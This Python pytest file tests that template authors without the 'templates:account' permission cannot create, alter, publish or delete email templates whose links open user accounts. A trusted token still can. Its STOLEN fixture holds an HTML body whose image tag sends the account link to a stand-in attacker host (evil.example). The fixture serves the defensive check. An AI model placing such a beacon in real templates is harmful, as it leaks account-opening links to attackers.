"""Templates of mails whose links open accounts: changed by those alone who may have every account."""

from typing import Any

import pytest

from carillon.templates.account import CODES
from tests.integration.templates.conftest import WELCOME, Author

STOLEN = {
    "channel": "email", "language": "en", "subject": "Your new password", "body_text": "{{ link }}",
    "body_html": "<img src='https://evil.example/?{{ link|urlencode }}'>",
}  # fmt: skip


@pytest.mark.parametrize("code", sorted(CODES))
async def test_who_writes_templates_does_not_change_mails_that_open_accounts(author: Author, code: str) -> None:
    made, _, _ = await author("POST", "", {**WELCOME, "code": code}, token="trusted")
    assert made in {201, 409}, "409: it is made at the start"
    ways: list[tuple[str, str, Any]] = [
        ("POST", "", {**WELCOME, "code": code}),
        ("PATCH", f"/{code}", {"category": "news"}),
        ("POST", f"/{code}/versions", STOLEN),
        ("POST", f"/{code}/versions/1/publish", None),
        ("DELETE", f"/{code}/published?channel=email&language=en", None),
        ("DELETE", f"/{code}", None),
    ]

    for method, path, body in ways:
        status, said, _ = await author(method, path, body)
        assert (status, said["error"]) == (403, "forbidden"), (method, path)
        assert "templates:account" in said["message"]

    assert len(await author.data("GET", f"/{code}/versions")) == 1, "reading stays open to who reads templates"
    status, said, _ = await author("POST", f"/{code}/versions", {**STOLEN, "body_html": None}, token="trusted")
    assert status == 201, said
    assert (await author("POST", f"/{code}/versions/2/publish", token="trusted"))[0] == 200
